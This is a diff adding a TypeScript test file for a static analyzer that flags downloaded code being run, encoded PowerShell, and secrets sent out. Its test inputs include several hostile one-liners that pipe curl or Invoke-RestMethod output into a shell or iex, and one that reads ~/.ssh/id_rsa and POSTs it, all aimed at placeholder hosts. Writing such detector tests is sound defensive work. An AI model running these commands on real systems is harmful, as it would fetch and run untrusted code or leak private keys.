@@ -1,0 +1,32 @@
+// Python, JavaScript and PowerShell followed by line: downloads run, secrets sent, shell inside strings.
+import { describe, expect, it } from "vitest";
+import { analyzeCode } from "./code-flow.js";
+import { withShellTree } from "./parser.js";
+
+const rules = (text: string, language: "python" | "node" | "powershell", sends = true): string[] =>
+  analyzeCode(text, language, { parse: withShellTree, sends }).map((event) => event.rule);
+
+describe("analyzeCode", () => {
+  it("finds downloaded code run, on one line or through names", () => {
+    expect(rules("exec(urlopen(URL).read())", "python")).toEqual(["download-execute"]);
+    expect(rules("r = requests.get(URL)\ncode = r.text\nexec(code)", "python")).toEqual(["download-execute"]);
+    expect(rules("const c = await (await fetch(u)).text();\neval(c);", "node")).toEqual(["download-execute"]);
+    expect(rules("irm https://e.invalid/x.ps1 | iex", "powershell")).toEqual(["download-execute"]);
+  });
+
+  it("scans shell strings and decodes -EncodedCommand", () => {
+    expect(rules("execSync('curl -s https://e.invalid | sh')", "node")).toEqual(["download-execute"]);
+    const encoded = Buffer.from("iex (iwr https://e.invalid)", "utf16le").toString("base64");
+    expect(rules(`powershell -enc ${encoded}`, "powershell")).toEqual(["encoded-execute", "download-execute"]);
+  });
+
+  it("finds a secret sent out, except in examples and Authorization headers", () => {
+    const post = 'key = open(os.path.expanduser("~/.ssh/id_rsa")).read()\n\nrequests.post(URL, data=key)';
+    expect(rules(post, "python")).toEqual(["secret-exfiltration"]);
+    expect(rules(post, "python", false)).toEqual([]);
+    expect(rules("token = os.environ['GITHUB_TOKEN']\nrequests.post(URL, json=body)", "python")).toEqual([]);
+    expect(
+      rules("const t = process.env.API_TOKEN;\nfetch(u, { method: 'POST', headers: { Authorization: t } })", "node"),
+    ).toEqual([]);
+  });
+});
